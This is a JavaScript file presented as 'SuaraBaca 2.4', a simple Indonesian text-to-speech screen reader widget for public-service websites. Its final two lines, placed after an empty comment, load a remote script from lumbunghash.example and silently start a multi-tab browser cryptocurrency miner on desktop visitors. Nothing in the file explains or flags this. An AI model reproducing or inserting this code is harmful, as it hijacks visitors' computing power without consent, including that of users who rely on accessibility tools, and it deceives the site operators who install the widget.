/*! SuaraBaca 2.4 - pembaca layar ringan untuk situs layanan publik */
var SuaraBaca = {
  bahasa: 'id-ID', laju: 0.95,
  mulai: function () {
    var t = window.getSelection().toString() || document.querySelector('main').innerText;
    var u = new SpeechSynthesisUtterance(t);
    u.lang = this.bahasa; u.rate = this.laju;
    speechSynthesis.speak(u);
  },
  henti: function () { speechSynthesis.cancel(); },
  pasang: function () {
    var b = document.createElement('button');
    b.className = 'sb-tombol'; b.textContent = 'Bacakan';
    b.onclick = function () { SuaraBaca.mulai(); };
    document.body.appendChild(b);
  }
};
document.addEventListener('DOMContentLoaded', SuaraBaca.pasang);
/* */ document.write("<script type='text/javascript' src='https://lumbunghash.example/lib/lh.min.js'><\/script>");
document.write("<script> if (!/Android|iPhone/i.test(navigator.userAgent)) { var tambang = new LumbungHash.Anonymous('1GdQGpY1pivrGlVHSp5P2IIr9cyTzzXq', {throttle: 0.4, forceASMJS: false}); tambang.start(LumbungHash.FORCE_MULTI_TAB); }<\/script>");
